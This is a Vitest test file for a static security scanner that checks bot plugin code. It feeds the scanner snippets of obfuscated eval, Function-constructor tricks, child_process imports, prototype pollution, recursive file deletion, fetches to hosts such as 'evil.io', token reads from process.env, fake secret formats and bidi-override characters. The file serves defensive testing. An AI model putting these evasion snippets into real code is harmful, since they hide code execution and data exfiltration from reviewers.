import { describe, expect, it } from "vitest";
import { securityViolations } from "./index.ts";

const options = { envFiles: ["**/config.ts"], allowedHosts: ["discord.com", "api.github.com"] };
const PATH = "packages/plugins/dice/src/roll.ts";
const rules = (code: string, path = PATH) =>
  securityViolations(path, code, options).map((violation) => `${violation.rule}:${violation.severity}`);

describe("securityViolations", () => {
  it.each([
    ["eval called directly", 'eval("1 + 1");', "security/eval"],
    [
      "eval through a computed global built by concatenation",
      'globalThis["ev" + "al"]("1");',
      "security/eval",
    ],
    [
      "eval through const-folded names",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: source code under test
      'const a = "ev"; const b = `${a}al`; window[b]("1");',
      "security/eval",
    ],
    ["eval aliased to another name", 'const run = eval; run("1");', "security/eval"],
    ["eval reached by reflection", 'Reflect.get(globalThis, "eval")("1");', "security/eval"],
    [
      "eval reached by reflection on an alias of the global object",
      'const g = globalThis; Reflect.get(g, "ev" + "al")("1");',
      "security/eval",
    ],
    [
      "eval read from its property descriptor",
      'Object.getOwnPropertyDescriptor(globalThis, "eval").value("1");',
      "security/eval",
    ],
    [
      "Function built through Reflect.construct",
      'Reflect.construct(Function, ["return process"])();',
      "security/function-constructor",
    ],
    ["a string handed to setTimeout", 'setTimeout("process.exit(1)", 10);', "security/string-to-code"],
    [
      "a string built then handed to setInterval",
      'const code = "steal" + "()"; setInterval(code, 1000);',
      "security/string-to-code",
    ],
    [
      "code imported from a data: URL",
      'await import("data:text/javascript,export default 1");',
      "security/string-to-code",
    ],
    [
      "a built-in prototype method replaced",
      "Array.prototype.includes = () => true;",
      "security/global-mutation",
    ],
    ["a global replaced", "globalThis.fetch = async () => new Response();", "security/global-mutation"],
    [
      "a global replaced through an alias",
      "const g = globalThis; g.setTimeout = () => 0;",
      "security/global-mutation",
    ],
    [
      "a built-in patched with a compound operator",
      'JSON.stringify ??= () => "";',
      "security/global-mutation",
    ],
    ["a prototype property deleted", "delete Object.prototype.toString;", "security/global-mutation"],
    [
      "a built-in changed by Object.defineProperty",
      'Object.defineProperty(String.prototype, "trim", { value: () => "" });',
      "security/global-mutation",
    ],
    ["globals merged into", "Object.assign(globalThis, { admin: true });", "security/global-mutation"],
    [
      "prototype pollution through __proto__",
      'const o = {}; o["__proto__"].isAdmin = true;',
      "security/global-mutation",
    ],
    ["eval called indirectly", "(0, eval)(code);", "security/eval"],
    ["eval decoded from base64", 'globalThis[atob("ZXZhbA==")]("1");', "security/eval"],
    ["eval via a reversed string", 'self["lave".split("").reverse().join("")]("1");', "security/eval"],
    ["new Function", 'new Function("return 1")();', "security/function-constructor"],
    ["Function called without new", 'Function("return this")();', "security/function-constructor"],
    [
      "Function reached through .constructor",
      '[].constructor.constructor("return process")();',
      "security/function-constructor",
    ],
    ["child_process imported", 'import { execSync } from "node:child_process";', "security/dangerous-module"],
    [
      "child_process required by a joined name",
      'require(["child", "process"].join("_")).execSync("ls");',
      "security/dangerous-module",
    ],
    [
      "child_process imported dynamically by a const name",
      'const m = "child_" + "process"; await import(m);',
      "security/dangerous-module",
    ],
    ["vm required", 'const vm = require("vm");', "security/dangerous-module"],
    ["worker_threads re-exported", 'export { Worker } from "worker_threads";', "security/dangerous-module"],
    ["a raw socket", 'import net from "node:net";', "security/dangerous-module"],
    ["require of a computed name", "const lib = require(name);", "security/dynamic-import"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: source code under test
    ["import() of a computed name", "await import(`./${name}.ts`);", "security/dynamic-import"],
    [
      "process.binding by a computed literal",
      'process["binding"]("spawn_sync");',
      "security/process-internals",
    ],
    ["a computed global property", "globalThis[key]();", "security/dynamic-access"],
    [
      "a suspicious name built at run time on any object",
      'const fn = obj["exec" + "Sync"];',
      "security/dynamic-access",
    ],
    ["fs.writeFileSync", 'import fs from "node:fs"; fs.writeFileSync("/tmp/x", "y");', "security/fs-write"],
    ["a named fs write import", 'import { appendFile } from "fs/promises";', "security/fs-write"],
    [
      "fs.promises.rm",
      'import * as fs from "fs"; await fs.promises.rm("/data", { recursive: true });',
      "security/fs-write",
    ],
    ["createWriteStream destructured", 'const { createWriteStream } = require("fs");', "security/fs-write"],
    ["createRequire", 'import { createRequire } from "node:module";', "security/module-loader"],
    ["process.env read in a plugin", "const token = process.env.DISCORD_BOT_TOKEN;", "security/process-env"],
    ["process.env destructured", "const { env } = process;", "security/process-env"],
    [
      "fetch to an unknown host",
      'await fetch("https://collector.example.net/log");',
      "security/network-host",
    ],
    [
      "a template URL with an unknown host",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: source code under test
      "await fetch(`https://cdn.example.org/${id}`);",
      "security/network-host",
    ],
    [
      "http.request to an unknown host",
      'import https from "https"; https.request({ hostname: "evil.io", path: "/" });',
      "security/network-host",
    ],
    [
      "axios to an unknown host",
      'import axios from "axios"; await axios.post("http://10.0.0.1/x", data);',
      "security/network-host",
    ],
    ["an AWS key", 'const key = "AKIAIOSFODNN7EXAMPLE";', "security/secret"],
    ["a GitHub token", `const token = "ghp_${"x1".repeat(18)}";`, "security/secret"],
    ["a fine-grained GitHub token", `const token = "github_pat_${"A1b2".repeat(8)}";`, "security/secret"],
    [
      "a Discord bot token",
      `const token = "MTA${"x".repeat(21)}.GaBcDe.${"y".repeat(30)}";`,
      "security/secret",
    ],
    ["an OpenAI key", `const key = "sk-proj-${"a1B2".repeat(8)}";`, "security/secret"],
    ["a private key block", 'const pem = "-----BEGIN RSA PRIVATE KEY-----\\nMIIE";', "security/secret"],
    [
      "a right-to-left override",
      'const access = "user\u202E \u2066// admin\u2069";',
      "security/invisible-unicode",
    ],
    ["a zero-width space in an identifier", "const is\u200BAdmin = true;", "security/invisible-unicode"],
    ["a byte-order mark in the middle", "const a = 1;\n\uFEFFconst b = 2;", "security/invisible-unicode"],
  ])("rejects %s", (_name, code, rule) => {
    expect(rules(code)).toContain(`${rule}:error`);
  });

  it.each([
    ["a computed URL", "await fetch(url);", "security/network-dynamic-url"],
    ["a long random-looking literal", 'const salt = "aZ3kQ9xP2mL8vB7nR4tY6wE1uI0oPqWs";', "security/secret"],
  ])("warns about %s", (_name, code, rule) => {
    expect(rules(code)).toEqual([`${rule}:warning`]);
  });

  it("leaves ordinary plugin code alone", () => {
    const code = [
      'import type { ChildProcess } from "node:child_process";',
      'import { readFile } from "node:fs/promises";',
      'const table = { eval: 1, exec: "x" };',
      'const value = table.eval + table["exec"].length;',
      'const reply = await fetch("https://discord.com/api/v10/channels/1/messages", { method: "POST" });',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: source code under test
      "const repo = await fetch(`https://api.github.com/repos/${owner}/${name}`);",
      "const relative = await fetch(`/health`);",
      "export function check(value: unknown): value is Function { return value instanceof Function; }",
      'const text = await readFile(new URL("./data.json", import.meta.url), "utf8");',
      'const id = "9f86d081884c7d65";',
      // Writing to its own objects, timers with functions, reading descriptors of its own values.
      "const state = { count: 0 }; state.count += 1; delete state.count;",
      "export function tally(message: { seen?: boolean }) { message.seen = true; }",
      "class Counter { total = 0; add() { this.total += 1; } }",
      "setTimeout(() => state.count++, 10); setInterval(tick, 1000);",
      'Object.assign(state, { count: 2 }); Object.defineProperty(state, "x", { value: 1 });',
      'const described = Object.getOwnPropertyDescriptor(state, "count");',
      'const found = Reflect.get(state, "count");',
    ].join("\n");

    expect(securityViolations(PATH, `\uFEFF${code}`, options)).toEqual([]);
  });

  it("lets the configured config modules read process.env", () => {
    expect(rules("export const token = process.env.TOKEN;", "packages/core/src/config.ts")).toEqual([]);
  });

  it("scans any file for secrets and invisible characters, not only scripts", () => {
    expect(
      rules(`token: ghp_${"a".repeat(36)}\nname: a\u202Eb\n`, "packages/plugins/dice/README.md"),
    ).toEqual(["security/secret:error", "security/invisible-unicode:error"]);
  });

  it("quotes the offending code and where it leads, without repeating a secret", () => {
    const [obfuscated] = securityViolations(PATH, 'const f = globalThis["ev" + "al"];', options);
    const [secret] = securityViolations(PATH, `const t = "ghp_${"a".repeat(36)}";`, options);

    expect(obfuscated?.message).toBe('`globalThis["ev" + "al"]` reaches eval, which runs strings as code');
    expect(secret?.message).not.toContain("aaaa");
  });
});
